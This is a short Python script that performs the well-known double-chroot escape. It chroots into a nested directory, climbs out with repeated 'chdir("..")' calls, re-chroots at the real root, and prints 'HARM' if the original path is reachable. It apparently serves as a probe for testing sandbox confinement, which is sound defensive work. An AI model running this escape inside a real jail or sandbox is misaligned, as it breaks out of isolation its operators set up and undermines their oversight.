"""Leaves its root by the second chroot of the well-known trick."""

import os

os.makedirs("jail/inner")
home = os.getcwd()
os.chroot("jail")
os.chdir("/")
os.chroot("inner")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
if os.path.exists(home):
    print("HARM")
